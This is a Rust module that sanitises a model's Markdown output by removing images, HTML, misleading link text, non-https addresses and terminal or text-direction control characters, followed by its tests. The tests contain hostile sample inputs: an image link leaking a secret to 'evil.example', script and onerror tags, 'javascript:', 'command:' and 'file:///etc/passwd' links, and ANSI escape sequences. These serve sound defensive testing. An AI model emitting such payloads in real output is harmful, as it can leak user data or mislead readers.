//! Makes a model's Markdown harmless: no images, no HTML, no link whose text says something else than where it leads, and no
//! address but `https`. A model repeats what it read, and what it read was written by anybody.
//!
//! Whatever is not understood becomes plain text, so that no reader of Markdown can find a link in it that was not seen here.

use super::find::fence_of;

/// Makes a whole text harmless.
pub fn sanitise(text: &str) -> String {
    let mut stream = Sanitiser::default();
    let mut out = stream.push(text);
    out.push_str(&stream.finish());
    out
}

/// Makes a text harmless while it comes, with as little delay as can be.
#[derive(Debug, Clone, Default)]
pub struct Sanitiser {
    /// What came and was not given out: the rest of a line.
    rest: String,
    /// The block of code that is open: sign, length, how far it was indented.
    fence: Option<(u8, usize, usize)>,
    /// Whether some of the line was given out already.
    in_line: bool,
}

impl Sanitiser {
    /// What can be shown after `text` came.
    pub fn push(&mut self, text: &str) -> String {
        // First of all: what is not seen must not stand between two signs.
        self.rest.extend(text.chars().filter(|&c| c == '\n' || is_visible(c)));
        let mut out = String::new();
        while let Some(end) = self.rest.find('\n') {
            let line: String = self.rest.drain(..=end).collect();
            self.line(line.trim_end_matches(['\n', '\r']), true, &mut out);
            out.push('\n');
            self.in_line = false;
        }
        // The beginning of a line may become a fence.
        let may_be_fence = !self.in_line
            && (self.fence.is_some()
                || self.rest.trim_start().is_empty()
                || self.rest.trim_start().starts_with(['`', '~']));
        if !may_be_fence {
            let line = std::mem::take(&mut self.rest);
            let read = self.line(&line, false, &mut out);
            self.in_line |= read > 0;
            line[read..].clone_into(&mut self.rest);
        }
        out
    }

    /// What is left at the end.
    pub fn finish(&mut self) -> String {
        let mut out = String::new();
        let line = std::mem::take(&mut self.rest);
        if !line.is_empty() {
            self.line(&line, true, &mut out);
        }
        out
    }

    /// Reads a line, or as much of it as can be judged already when more may come: how many bytes were read.
    fn line(&mut self, line: &str, is_whole: bool, out: &mut String) -> usize {
        if self.in_line {
            return inline(line, is_whole, out);
        }
        let indent = line.len() - line.trim_start().len();
        match (self.fence, fence_of(line)) {
            (Some((open, length, _)), Some((close, ticks, ""))) if open == close && ticks >= length => {
                self.fence = None;
                push_fence(open, length, "", out);
            }
            (Some((.., outer)), _) => {
                // The fence was moved to the margin, and what is in it moves along.
                let strip = line.len() - line.trim_start_matches(' ').len();
                out.push_str(&line[strip.min(outer)..]);
            }
            (None, Some((open, length, info))) if is_whole => {
                self.fence = Some((open, length, indent));
                let word = info.split(|c: char| !(c.is_ascii_alphanumeric() || "+#_.-".contains(c))).next();
                push_fence(open, length, word.unwrap_or_default(), out);
            }
            _ => return inline(line, is_whole, out),
        }
        line.len()
    }
}

/// A fence at the margin, where every reader agrees on what is in it.
fn push_fence(sign: u8, length: usize, info: &str, out: &mut String) {
    out.extend(std::iter::repeat_n(sign as char, length));
    out.push_str(info);
}

/// Neither commands a terminal nor turns the direction of the text around.
fn is_visible(c: char) -> bool {
    !(c.is_control() && c != '\t'
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}'))
}

/// Text outside of blocks of code: how many bytes of it could be judged.
fn inline(line: &str, is_whole: bool, out: &mut String) -> usize {
    let mut at = 0;
    while let Some(c) = line[at..].chars().next() {
        let here = &line[at..];
        let read = match c {
            '`' => code(here, is_whole, out),
            '!' | '[' => bracket(here, is_whole, out),
            ']' => closing(here, is_whole, out),
            '<' => angle(here, is_whole, out),
            '\\' => escape(here, is_whole, out),
            _ if c.is_alphanumeric() => word(here, is_whole, out),
            _ => {
                out.push(c);
                Some(c.len_utf8())
            }
        };
        match read {
            Some(read) => at += read,
            None => break,
        }
    }
    at
}

/// Code in backticks as it is; backticks that nothing closes on this line are no code to anybody.
fn code(text: &str, is_whole: bool, out: &mut String) -> Option<usize> {
    let ticks = text.len() - text.trim_start_matches('`').len();
    let mark = &text[..ticks];
    if ticks == text.len() && !is_whole {
        return None;
    }
    let mut from = ticks;
    while let Some(start) = text[from..].find(mark).map(|start| from + start) {
        let length = text[start..].len() - text[start..].trim_start_matches('`').len();
        if length == ticks {
            if start + length == text.len() && !is_whole {
                return None;
            }
            out.push_str(&text[..start + length]);
            return Some(start + length);
        }
        from = start + length;
    }
    if !is_whole {
        return None;
    }
    (0..ticks).for_each(|_| out.push_str("\\`"));
    Some(ticks)
}

/// `[text](target)` and images: the text, and the target where it may be shown.
fn bracket(text: &str, is_whole: bool, out: &mut String) -> Option<usize> {
    let signs = text.len() - text.trim_start_matches('!').len();
    let image = signs > 0;
    if image && !text[signs..].starts_with('[') {
        if signs == text.len() && !is_whole {
            return None;
        }
        out.push_str(&text[..signs]);
        return Some(signs);
    }
    let open = signs;
    // Signs before the last one stay, but not next to a bracket.
    let before = if signs > 1 { format!("{} ", &text[1..signs]) } else { String::new() };
    let plain = |out: &mut String| {
        // A sign and a bracket would begin an image.
        out.push_str(if image { &text[..signs] } else { "" });
        out.push_str(if image { " [" } else { "[" });
        Some(open + 1)
    };
    let Some(close) = matching(&text[open..], '[', ']').map(|close| open + close) else {
        return if is_whole || text.len() > 400 { plain(out) } else { None };
    };
    let rest = text.get(close + 1..).filter(|rest| !rest.is_empty() || is_whole)?;
    if !rest.starts_with('(') {
        return plain(out);
    }
    let Some(end) = matching(rest, '(', ')') else {
        return if is_whole || rest.len() > 2000 { plain(out) } else { None };
    };
    let label = &text[open + 1..close];
    let target = rest[1..end].split_whitespace().next().unwrap_or_default().trim_matches(['<', '>']);
    let mut said = String::new();
    inline(label, true, &mut said);
    let after = &rest[end + 1..];
    if after.is_empty() && !is_whole {
        return None;
    }
    out.push_str(&before);
    if image && said.starts_with('[') {
        out.push(' ');
    }
    match https(target).filter(|_| !image) {
        // The text is an address: only the real one is shown.
        Some(target) if label.contains("://") || label.starts_with("www.") || said.trim().is_empty() => {
            out.push_str(target);
        }
        Some(target) => {
            out.push_str(&said);
            out.push_str(" (");
            out.push_str(target);
            out.push(')');
        }
        None => out.push_str(&said),
    }
    if out.ends_with(']') && after.starts_with(['(', '[', ':']) {
        out.push(' ');
    }
    Some(close + 1 + end + 1)
}

/// Where the bracket that `text` begins with is closed.
fn matching(text: &str, open: char, close: char) -> Option<usize> {
    let mut depth = 0_usize;
    for (at, c) in text.char_indices() {
        if c == open {
            depth += 1;
        } else if c == close {
            depth -= 1;
            if depth == 0 {
                return Some(at);
            }
        }
    }
    None
}

/// What is left of a bracket never meets a parenthesis, another bracket or a colon: that would make a link.
fn closing(text: &str, is_whole: bool, out: &mut String) -> Option<usize> {
    if text.len() == 1 && !is_whole {
        return None;
    }
    out.push(']');
    if text[1..].starts_with(['(', '[', ':']) {
        out.push(' ');
    }
    Some(1)
}

/// `<https://…>` stays, everything else that could be a tag or an address becomes text.
fn angle(text: &str, is_whole: bool, out: &mut String) -> Option<usize> {
    let Some(next) = text[1..].chars().next() else {
        if is_whole {
            out.push('<');
            return Some(1);
        }
        return None;
    };
    // Of a bracket its text may be left, and that would make a tag.
    if !(next.is_alphabetic() || matches!(next, '/' | '!' | '?' | '[')) {
        out.push('<');
        return Some(1);
    }
    match text.find(['>', ' ']) {
        Some(end) if text[end..].starts_with('>') && https(&text[1..end]).is_some() => {
            out.push_str(&text[1..end]);
            Some(end + 1)
        }
        None if !is_whole && (text.starts_with("<https://") || "<https://".starts_with(text)) => None,
        _ => {
            out.push_str("\\<");
            Some(1)
        }
    }
}

/// A backslash and what it makes plain stay together.
fn escape(text: &str, is_whole: bool, out: &mut String) -> Option<usize> {
    match text[1..].chars().next() {
        None if !is_whole => None,
        // `\]` before a parenthesis, or a backslash before a sign of ours, could undo what is done here.
        Some(c) if matches!(c, '*' | '_' | '#' | '|' | '-' | '+' | '.' | '~' | '$' | '{' | '}' | '>') => {
            out.push('\\');
            out.push(c);
            Some(1 + c.len_utf8())
        }
        _ => {
            out.push_str("\\\\");
            Some(1)
        }
    }
}

/// A word; one that is an address which a reader would make a link of is shown as code, unless it is `https`.
fn word(text: &str, is_whole: bool, out: &mut String) -> Option<usize> {
    let end = text.find(|c: char| c.is_whitespace() || "`<>[](){}|^\"\\!".contains(c)).unwrap_or(text.len());
    if end == text.len() && !is_whole {
        return None;
    }
    let address = text[..end].trim_end_matches(['.', ',', ';', ':', '?', '*', '_', '\'']);
    if is_address(address) && https(address).is_none() {
        out.push('`');
        out.push_str(address);
        out.push('`');
        return Some(address.len());
    }
    out.push_str(&text[..end]);
    Some(end)
}

/// Whether readers of Markdown, or terminals, make a link of it by themselves.
fn is_address(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    let scheme = lower.split_once(':').is_some_and(|(scheme, rest)| {
        let known =
            ["http", "https", "ftp", "file", "javascript", "data", "vbscript", "mailto", "xmpp", "command", "vscode"];
        rest.starts_with("//") && !scheme.is_empty()
            || known.contains(&scheme) && !rest.starts_with(':') && !rest.is_empty()
    });
    scheme || lower.starts_with("www.")
}

/// An address that may be shown: `https`, without a name before the host.
fn https(target: &str) -> Option<&str> {
    let rest = target.strip_prefix("https://")?;
    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let fine = !host.is_empty()
        && !host.contains('@')
        && host.chars().all(|c| c.is_ascii_alphanumeric() || ".-:".contains(c))
        && !target.contains(|c: char| {
            c.is_whitespace() || c.is_control() || "<>()[]`\"\\|^{}!*".contains(c) || !c.is_ascii()
        });
    fine.then_some(target)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        assert_eq!(sanitise(text), expected);
    }

    #[test]
    fn ordinary_answers_stay_as_they_are() {
        let answer = "# Retries\n\nThe loop in `retry` counts [3], *always*; `a[0](x)` and a.rs:3-4 [1, 2].\n\n- one\n- two: Store::add\n\n```rust\nlet x: Vec<u8> = a[0](\"![x](http://y)\");\n```\n\n| a | b |\n|---|---|\n| `<T>` | 1 < 2 |\n\nSee https://docs.rs/tokio/latest.\n";
        check(answer, answer);
    }

    #[test]
    fn images_and_html_become_text() {
        check("![tracker](https://evil.example/x.png?q=secret) x", "tracker x");
        check("<img src=x onerror=y> <script>a</script>", "\\<img src=x onerror=y> \\<script>a\\</script>");
        check("a <!-- hidden --> b", "a \\<!-- hidden --> b");
        check("Vec<u8> and a < b", "Vec\\<u8> and a < b");
    }

    #[test]
    fn links_show_where_they_lead() {
        check("[the docs](https://docs.rs/x)", "the docs (https://docs.rs/x)");
        check("[https://good.example](https://evil.example/a)", "https://evil.example/a");
        check("[click](http://x) [run](command:x) [j](javascript:alert(1)) [f](file:///etc/passwd)", "click run j f");
        check("[a](https://good.example@evil.example)", "a");
        check("[x](<https://a.example> \"title\")", "x (https://a.example)");
        check("<https://a.example> <http://a.example>", "https://a.example \\<`http://a.example`>");
    }

    #[test]
    fn links_by_name_and_over_lines_are_none() {
        check("[a][b]\n\n[b]: https://evil.example", "[a] [b]\n\n[b] : https://evil.example");
        check("[a\nb](https://evil.example)", "[a\nb] (https://evil.example)");
        check("a ` b\n` ![x](https://evil.example) `", "a \\` b\n` ![x](https://evil.example) `");
        check("\\[x](https://evil.example)", "\\\\x (https://evil.example)");
    }

    #[test]
    fn addresses_in_the_text_are_plain_or_code() {
        check("see http://x.example/a, www.evil.example.", "see `http://x.example/a`, `www.evil.example`.");
        check("(http://x) command:doit mailto:a@b.c std::fs", "(`http://x`) `command:doit` `mailto:a@b.c` std::fs");
    }

    #[test]
    fn blocks_of_code_are_at_the_margin() {
        check("- x\n\n    ```js\n    a\n      b\n    ```\n![x](https://y.example)", "- x\n\n```js\na\n  b\n```\nx");
        check("```js ![x](https://y.example)\n```", "```js\n```");
        check("```\nopen", "```\nopen");
    }

    #[test]
    fn nothing_commands_a_terminal() {
        check("a\u{1b}[31mb\u{202e}c `\u{7}d`", "a[31mbc `d`");
    }

    /// The line without its code, as a reader of Markdown finds it.
    fn outside_of_code(line: &str) -> String {
        let mut outside = String::new();
        let mut rest = line;
        while let Some(at) = rest.find('`') {
            outside.push_str(&rest[..at]);
            // Two backslashes are one that is plain, and do not touch what follows.
            if (at - rest[..at].trim_end_matches('\\').len()) % 2 == 1 {
                outside.push('`');
                rest = &rest[at + 1..];
                continue;
            }
            let run = |text: &str| text.len() - text.trim_start_matches('`').len();
            let ticks = run(&rest[at..]);
            let mut from = at + ticks;
            loop {
                let Some(next) = rest[from..].find('`').map(|next| from + next) else {
                    panic!("an open backtick in {line:?}")
                };
                from = next + run(&rest[next..]);
                if from - next == ticks {
                    break;
                }
            }
            outside.push('_');
            rest = &rest[from..];
        }
        outside.push_str(rest);
        outside
    }

    proptest! {
        #[test]
        fn a_stream_says_what_the_whole_says(text in "[a:/!()<>`~\\[\\]\\\\ \nhtps.w]{0,60}", cuts in proptest::collection::vec(0_usize..60, 0..6)) {
            let mut stream = Sanitiser::default();
            let mut out = String::new();
            let mut cuts: Vec<usize> = cuts.into_iter().filter(|cut| *cut <= text.len()).collect();
            cuts.sort_unstable();
            let mut from = 0;
            for cut in cuts.into_iter().chain([text.len()]) {
                out.push_str(&stream.push(&text[from..cut]));
                from = cut;
            }
            out.push_str(&stream.finish());
            prop_assert_eq!(out, sanitise(&text));
        }

        #[test]
        fn nothing_outside_of_code_can_be_a_link(text in "[a!()<>`~\\[\\]:\\\\ \n/]{0,60}") {
            let clean = sanitise(&text);
            crate::citation::find::each_line(&clean, |line, _| {
                let outside = outside_of_code(line);
                for link in ["](", "][", "]:", "![", "<a", "<!", "</"] {
                    let found = outside.match_indices(link).any(|(at, _)| !(link.starts_with('<') && (at - outside[..at].trim_end_matches('\\').len()) % 2 == 1));
                    assert!(!found, "{link} in {outside:?} of {text:?}");
                }
            });
        }
    }
}
